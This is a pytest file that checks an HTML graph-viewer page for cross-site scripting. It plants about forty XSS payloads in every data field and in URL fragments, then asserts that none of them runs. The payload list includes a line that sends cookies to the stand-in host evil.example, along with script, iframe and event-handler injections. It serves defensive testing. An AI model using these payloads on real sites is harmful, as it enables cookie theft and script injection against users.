"""The page stays inert whatever the data holds: script-injection payloads in every text field.

A dataset is built directly from ``graph.model`` objects (the validator would
refuse some of it: script URLs, unknown kinds and modalities, markup in ids),
with each payload of :data:`PAYLOADS` placed in every text field: entity
names, aliases, descriptions, codes; source titles, kinds, authors, outlets,
urls, perspectives; relation modes, contexts, modalities, asserted_by,
quotes, notes, attribute keys and values; and some ids. Every payload, if it
ran, would set ``window.__pwned``, open a dialog or make a request (all
recorded by the fixtures of ``conftest.py``). Chromium then hovers and clicks
every entity and relation, every button of the details panel, every filter,
searches for every payload and loads hostile URL fragments; nothing may run.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from graph.dataset import Dataset
from graph.model import Entity, Evidence, Relation, Source
from graph.render import write_html
from graph.vocab import RELATION_TYPES
from graph.when import parse_when

PWN = "window.__pwned=1"
PAYLOADS = [
    f"<script>{PWN}</script>",
    '<script src="https://evil.example/x.js"></script>',
    f"</script><script>{PWN}</script>",
    f"<!--</script><script>{PWN}</script>-->",
    f'<img src=x onerror="{PWN};alert(1)">',
    '<img src="https://evil.example/pixel.png">',
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<body onload={PWN}>",
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f'<a href="javascript:{PWN}">click me</a>',
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}",
    "  javascript:alert(1)",
    f"data:text/html,<script>{PWN}</script>",
    "vbscript:msgbox(1)",
    f'"><script>{PWN}</script>',
    f"'><img src=x onerror={PWN}>",
    f'" onmouseover="{PWN}" x="',
    f"' onfocus='{PWN}' autofocus='",
    f"<details open ontoggle={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f"<video><source onerror={PWN}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    f'<object data="javascript:{PWN}"></object>',
    f'<embed src="javascript:{PWN}">',
    f'<form action="javascript:{PWN}"><button>go</button></form>',
    '<base href="https://evil.example/">',
    f"{{{{constructor.constructor('{PWN}')()}}}}",
    f"${{{PWN}}}",
    f"`;{PWN};`",
    f"\\u003cscript\\u003e{PWN}\\u003c/script\\u003e",
    f"&lt;script&gt;{PWN}&lt;/script&gt;",
    f"\u2028\u2029</script><script>{PWN}</script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f'<x onclick={PWN} style="position:fixed;inset:0">cover</x>',
    "fetch('https://evil.example/?c='+document.cookie)",
    "<img src=x onerror=\"fetch('https://evil.example/')\">",
]


def injection_dataset():
    n = len(PAYLOADS)
    types = [t for t in RELATION_TYPES]
    entities, sources, relations = {}, {}, []
    for i, p in enumerate(PAYLOADS):
        eid = f"E{i}" if i % 5 else f"E{i}{p[:12]}"  # some ids carry markup too
        entities[eid] = Entity(
            id=eid,
            name=f"{p} #{i}",
            kind="state" if i % 3 else p,
            aliases=(p, f"alias{i} {p}"),
            codes={"wikidata": p, "cameo": p, p: p},
            part_of=None,
            description=f"{p} described",
        )
        sid = f"S{i}"
        sources[sid] = Source(
            id=sid,
            title=p,
            kind=p if i % 2 else "op-ed",
            published=parse_when("2024"),
            author=p,
            outlet=p,
            url=p if i % 2 else f"https://example.org/{i}?q={p}",
            perspective=p,
            text=p,
        )
    ids = list(entities)
    for i, p in enumerate(PAYLOADS):
        t = types[i % len(types)]
        modes = RELATION_TYPES[t].modes
        relations.append(
            Relation(
                id=f"r{i}" if i % 7 else f"r{i}{p[:10]}",
                subject=ids[i],
                object=ids[(i + 1) % n],
                type=t,
                modality=("reported", "claimed", "recommended", "speculated", "denied")[i % 5] if i % 4 else p,
                polarity=RELATION_TYPES[t].polarity,
                mode=p if not modes or i % 2 else modes[0],
                context=(p, "military"),
                asserted_by=ids[(i + 2) % n] if i % 3 else p,
                when=parse_when(("2021", "2022-03", "2023-01-02", "2021..2024")[i % 4]),
                evidence=(Evidence(f"S{i}", p), Evidence(f"S{(i + 1) % n}", f"quote {i}: {p}")),
                attributes={p: p, f"k{i}": p, "n": i, "nested": {p: [p, i]}},
                note=f"{p}\n{p}",
            )
        )
    return Dataset(sources, entities, relations)


def injection_texts():
    """A stored text for every source, holding the payloads and the quotes of its claims."""
    n = len(PAYLOADS)
    return {
        f"S{i}": f"{p} opens the text. Then: {p}. And later quote {(i - 1) % n}: {PAYLOADS[(i - 1) % n]} -- {p}"
        for i, p in enumerate(PAYLOADS)
    }


@pytest.fixture(scope="module")
def injection_page(tmp_path_factory):
    return write_html(
        injection_dataset(), tmp_path_factory.mktemp("injection") / "injection.html", texts=injection_texts()
    )


def test_payloads_in_stored_texts_stay_text_in_the_reader(open_page, injection_page):
    p = open_page(injection_page)
    texts = injection_texts()
    for sid, text in list(texts.items())[::3]:
        assert p.js("(s) => actorgraph.reader.open(s)", sid) is True
        shown = p.page.locator("#ag-reader .ag-reader-text").text_content()
        assert shown == text
        marks = p.page.locator("#ag-reader mark")
        assert marks.count() >= 2  # its two quotes are highlighted
        for i in range(marks.count()):
            marks.nth(i).click()
        assert_inert(p)
    p.page.click("#ag-reader .ag-reader-close")
    assert_inert(p)


FOREIGN = "script, iframe, object, embed, img, video, audio, source, math, base, form, link, meta, details, x, style"
COUNT_FOREIGN = f"document.querySelectorAll('{FOREIGN}').length"
LIST_FOREIGN = f"[...document.querySelectorAll('{FOREIGN}')].map(e => e.outerHTML.slice(0, 80))"
BASELINE = []


@pytest.fixture(scope="module", autouse=True)
def _page_scripts(browser, seed_page):
    """How many script, meta, style... elements a page of benign data has."""
    ctx = browser.new_context()
    page = ctx.new_page()
    page.route("**/*", lambda r: r.continue_() if r.request.url.startswith("file:") else r.abort())
    page.goto(Path(seed_page).as_uri())  # write_html returns the absolute path as text
    page.wait_for_function("() => document.documentElement.dataset.ready === '1'", timeout=30000)
    BASELINE[:] = [page.evaluate(COUNT_FOREIGN)]
    ctx.close()


def assert_inert(p):
    assert p.js("typeof window.__pwned") == "undefined", "a payload ran"
    # nothing in the page carries an event handler, a script URL, or an element the data could add
    bad = p.js("""[...document.querySelectorAll('*')].filter(el => [...el.attributes].some(
        at => /^on/i.test(at.name) || at.name === 'srcdoc' ||
              (/^(href|src|action|formaction|data|xlink:href|background|poster|ping)$/i.test(at.name) &&
               /^\\s*(javascript|vbscript|data):/i.test(at.value)))).map(el => el.outerHTML.slice(0, 120))""")
    # (a title attribute may well hold the text "javascript:...": it is shown, never followed)
    assert bad == []
    # no element the data could have brought in: as many of these as in the page of the seed data
    assert p.js(COUNT_FOREIGN) == BASELINE[0], p.js(LIST_FOREIGN)
    for a in p.js("[...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))"):
        assert a.startswith(("https://", "http://")) or a.startswith("blob:") or a == "#", a
    p.assert_clean()


def test_the_payload_list_is_long_enough():
    assert len(PAYLOADS) >= 30 and len(set(PAYLOADS)) == len(PAYLOADS)


# The page reset, and where the entity or relation is on screen.
AT = """([kind, id]) => {
    actorgraph.reset(); return kind === 'node' ? actorgraph.nodePoint(id) : actorgraph.edgePoint(id); }"""
# The record selected, the text of its panel and, when asked, every visible button of the panel
# clicked in turn (the panel is drawn again after each click: the i-th button of the panel as it
# is then), in one round trip to the page.
SHOW = """([kind, id, buttons]) => {
    actorgraph.select(kind, id);
    const text = document.querySelector('#ag-panel').textContent;
    let clicked = 0;
    for (let i = 0; buttons && i < 60; i++) {
        const shown = [...document.querySelectorAll('#ag-panel button')].filter(b => b.offsetParent !== null);
        if (i >= shown.length) break;
        shown[i].click();
        clicked++;
    }
    return {text, clicked};
}"""


# Every filter checkbox clicked twice (off and on again), every option of each list chosen (the first
# 12), the time sliders to each end, the filter buttons clicked: each through the event the page
# listens to.
FILTERS = """() => {
    const seen = el => el.offsetParent !== null;
    const fire = (el, type) => el.dispatchEvent(new Event(type, {bubbles: true}));
    const used = {boxes: 0, options: 0};
    for (const box of document.querySelectorAll('#ag-filters input[type=checkbox]')) {
        if (!seen(box)) continue;
        box.click(); box.click(); used.boxes++;
    }
    for (const sel of document.querySelectorAll('#ag-filters select')) {
        for (const o of [...sel.options].slice(0, 12)) {
            sel.value = o.value; fire(sel, 'input'); fire(sel, 'change'); used.options++;
        }
    }
    for (const rng of document.querySelectorAll('#ag-filters input[type=range]')) {
        for (const v of [rng.min, rng.max]) { rng.value = v; fire(rng, 'input'); fire(rng, 'change'); }
    }
    for (const b of document.querySelectorAll('#ag-filters button')) if (seen(b)) b.click();
    return used;
}"""


def test_payloads_in_every_field_run_nothing_while_everything_is_used(open_page, injection_page):
    """Every record is hovered and clicked with the mouse and its panel shown (every payload in
    every field reaches the page); the panel's buttons are clicked for every third record (what a
    button shows next is another record's panel, shown anyway)."""
    ds = injection_dataset()
    p = open_page(injection_page)
    page = p.page
    nodes, edges = p.visible()
    assert nodes == set(ds.entities)
    assert edges == {r.id for r in ds.relations()}
    clicked = 0
    # every entity: hover (tooltip), click (panel), and the buttons of its panel
    for k, nid in enumerate(ds.entities):
        pt = p.js(AT, ["node", nid])
        page.mouse.move(pt["x"], pt["y"], steps=2)  # (from the last record: onto this one, a hover)
        page.mouse.click(pt["x"], pt["y"])
        shown = p.js(SHOW, ["node", nid, k % 3 == 0])
        assert ds.entities[nid].name in shown["text"]
        clicked += shown["clicked"]
    assert_inert(p)
    # every relation: hover, click, panel; the quotes show as text
    for k, r in enumerate(ds.relations()):
        pt = p.js(AT, ["edge", r.id])
        if pt:
            page.mouse.move(pt["x"], pt["y"], steps=2)
            page.mouse.click(pt["x"], pt["y"])
        shown = p.js(SHOW, ["edge", r.id, k % 3 == 0])
        assert r.evidence[0].quote.strip() in shown["text"]
        clicked += shown["clicked"]
    assert clicked > len(PAYLOADS)
    # a tooltip shown (hovered long enough for it to appear), as text
    last = list(ds.entities)[-1]
    pt = p.js("(id) => actorgraph.nodePoint(id)", last)
    p.js("actorgraph.reset()")
    page.mouse.move(pt["x"] - 15, pt["y"] - 15)
    page.mouse.move(pt["x"], pt["y"], steps=2)
    page.wait_for_function("() => !!document.querySelector('div.vis-tooltip')", timeout=300_000)
    assert_inert(p)
    # every filter control, on and off, and the time sliders: the first of each with the mouse,
    # all of them through their events (the page's own handlers, in one round trip)
    p.js("actorgraph.reset()")
    first = page.locator("#ag-filters input[type=checkbox]:visible").first
    first.click()
    first.click()
    sel = page.locator("#ag-filters select").first
    sel.select_option(sel.evaluate("s => s.options[s.options.length - 1].value"))
    used = p.js(FILTERS)
    assert used["boxes"] > 10 and used["options"] > 0
    assert_inert(p)
    # search for every payload (and the names that carry them)
    for i, payload in enumerate(PAYLOADS):
        page.fill("#ag-search", payload if i % 2 else f"alias{i} {payload}")
        page.press("#ag-search", "Enter")
    # hostile fragments
    for payload in PAYLOADS[:12]:
        page.evaluate(
            "(h) => { location.hash = h; }",
            f"entity={payload}&relation={payload}&focus={payload}&type={payload}&src={payload}",
        )
    for button in ("#ag-json", "#ag-png"):
        with page.expect_download():
            page.click(button)
    page.click("#ag-reset")
    assert_inert(p)


@pytest.mark.parametrize("i", range(0, len(PAYLOADS), 10))
def test_a_payload_in_the_fragment_on_load_runs_nothing(open_page, injection_page, i):
    from urllib.parse import quote

    payload = quote(PAYLOADS[i], safe="")
    p = open_page(
        injection_page,
        f"entity={payload}&relation={payload}&focus={payload}&hops={payload}&from={payload}&src={payload}",
    )
    assert_inert(p)
